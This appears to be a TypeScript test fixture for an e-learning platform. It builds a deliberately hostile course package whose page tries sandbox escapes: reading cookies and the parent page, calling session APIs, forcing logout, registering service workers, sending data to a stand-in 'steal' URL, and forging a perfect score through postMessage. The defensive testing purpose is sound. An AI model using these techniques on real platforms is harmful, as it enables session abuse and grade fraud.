import { packageOf } from '../server/intake/testing/package-samples.ts'

/** What a package may try; its page writes down what became of each, in a list. */
const ATTEMPTS = /* js */ `
const app = new URLSearchParams(location.search).get('app')
const lines = document.getElementById('tried')
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms))

/** 'refused' where it throws or gives nothing. */
async function attempt(name, action) {
  let got = 'refused'
  try {
    const found = await action()
    if (found !== undefined && found !== null && found !== '' && found !== false) got = String(found)
  } catch {
    got = 'refused'
  }
  const line = document.createElement('li')
  line.textContent = name + ': ' + got
  lines.append(line)
}

const reached = (url, options) => fetch(url, options).then((answer) => (answer.status === 404 ? '' : answer.status))
const loads = (make) => new Promise((resolve) => {
  const element = make()
  element.onload = () => resolve('loaded')
  element.onerror = () => resolve('')
  setTimeout(resolve, 2000)
})

async function everything() {
  const product = parent.parent
  await attempt('cookies of its own', () => { document.cookie = 'evil=1; path=/'; return '' })
  await attempt('session in cookies', () => /session|XSRF/i.test(document.cookie) && document.cookie)
  await attempt('page around, document', () => product.document.title)
  await attempt('page around, storage', () => product.localStorage.length + 1)
  await attempt('page around, address', () => product.location.href)
  await attempt('page around, variables', () => Object.keys(product).find((key) => isNaN(key)))
  await attempt('frame that holds it', () => window.frameElement && parent.frameElement && 'held')
  await attempt('API with the session', () => reached(app + '/api/web/login-status', { credentials: 'include' }))
  await attempt('API without reading', () => reached(app + '/api/web/logout', { mode: 'no-cors', credentials: 'include' }))
  await attempt('API on its own host', () => reached('/api/web/login-status'))
  await attempt('another site', () => reached('https://example.test/steal?data=1', { mode: 'no-cors' }))
  await attempt('beacon', () => navigator.sendBeacon(app + '/api/web/v2/error', 'x') && wait(200).then(() => ''))
  await attempt('socket', () => new Promise((resolve) => {
    const socket = new WebSocket(app.replace('http', 'ws') + '/')
    socket.onopen = () => resolve('open')
    socket.onerror = () => resolve('')
    setTimeout(resolve, 1000)
  }))
  await attempt('picture that logs out', () => loads(() => Object.assign(new Image(), { src: app + '/api/web/logout' })))
  await attempt('script of the product', () => loads(() => {
    const script = Object.assign(document.createElement('script'), { src: app + '/ngsw-worker.js' })
    document.head.append(script)
    return script
  }))
  await attempt('product in a frame', () => new Promise((resolve) => {
    const inner = Object.assign(document.createElement('iframe'), { src: app + '/' })
    inner.onload = () => {
      try { resolve(inner.contentDocument && inner.contentDocument.title) } catch { resolve('') }
    }
    document.body.append(inner)
    setTimeout(resolve, 1500)
  }))
  await attempt('service worker', () => navigator.serviceWorker.register('sw.js').then(() => 'registered'))
  await attempt('service worker of the host', () => navigator.serviceWorker.register('/launch.js').then(() => 'registered'))
  await attempt('worker', () => new Promise((resolve) => {
    const worker = new Worker('worker.js')
    worker.onmessage = () => resolve('runs')
    worker.onerror = () => resolve('')
    setTimeout(resolve, 1000)
  }))
  await attempt('shared worker', () => new Promise((resolve) => {
    const worker = new SharedWorker('worker.js')
    worker.port.onmessage = () => resolve('runs')
    worker.onerror = () => resolve('')
    setTimeout(resolve, 1000)
  }))
  await attempt('top navigation', () => { top.location.href = app + '/#/app/login'; return wait(300).then(() => '') })
  await attempt('top navigation by a link', () => {
    const link = Object.assign(document.createElement('a'), { href: app + '/health', target: '_top' })
    document.body.append(link)
    link.click()
    return wait(300).then(() => '')
  })
  await attempt('page around by a form', () => {
    const form = Object.assign(document.createElement('form'), { action: app + '/api/web/logout', method: 'get', target: '_top' })
    document.body.append(form)
    form.submit()
    return wait(300).then(() => '')
  })
  await attempt('form into itself', () => {
    const target = Object.assign(document.createElement('iframe'), { name: 'posted' })
    document.body.append(target)
    const form = Object.assign(document.createElement('form'), { action: app + '/api/web/login_json', method: 'post', target: 'posted' })
    document.body.append(form)
    form.submit()
    return wait(500).then(() => { try { return target.contentDocument.body.textContent } catch { return '' } })
  })
  await attempt('pop-up that reaches the product', () => {
    const popup = window.open(app + '/', 'evil')
    return wait(1000).then(() => {
      try { return popup && popup.document && popup.document.querySelector('#root') && 'read' } catch { return '' } finally { if (popup) popup.close() }
    })
  })
  await attempt('pop-up that leaves the sandbox', () => {
    const popup = window.open('blank.html', 'inner')
    return wait(500).then(() => {
      try { popup.eval("opener.top.location = 'about:blank'") } catch { /* refused */ } finally { if (popup) popup.close() }
    })
  })
  const forged = { say: 'kept', visit: '6f1c2d3e-4b5a-4c6d-8e7f-8091a2b3c4d5', seconds: 9, isFinished: true,
    cmi: { status: 'passed', location: 'forged', suspendData: '', score: { raw: 100, min: 0, max: 100 }, exit: '' } }
  await attempt('words to the product', () => { product.postMessage(forged, '*') })
  await attempt('words in the name of the launch page', () => { parent.eval('parent.postMessage(' + JSON.stringify(forged) + ', "*")') })
  await attempt('permissions', () => navigator.permissions.query({ name: 'geolocation' }).then(({ state }) => state === 'granted'))
  document.getElementById('done').textContent = 'All was tried.'
}
everything()
`

const PAGE = `<!doctype html><html lang="en"><meta charset="utf-8"><title>Evil</title>
<h1>An evil course</h1><ol id="tried"></ol><p id="done"></p><script>${ATTEMPTS}</script></html>`

/** @param app origin of the product that it attacks */
export function hostilePackage(app: string): Buffer {
  const parameters = `parameters="?app=${encodeURIComponent(app)}"`
  const file = (name: string, content: string) => ({ name, content })
  return packageOf({ items: [{ id: 'evil', href: 'evil.html', attributes: parameters }] }, [
    file('evil.html', PAGE),
    file('sw.js', 'self.onfetch = (event) => event.respondWith(new Response("owned"))'),
    file(
      'worker.js',
      'self.postMessage ? self.postMessage(1) : (self.onconnect = ({ ports: [port] }) => port.postMessage(1))',
    ),
    file('blank.html', '<!doctype html><title>Blank</title>'),
  ])
}
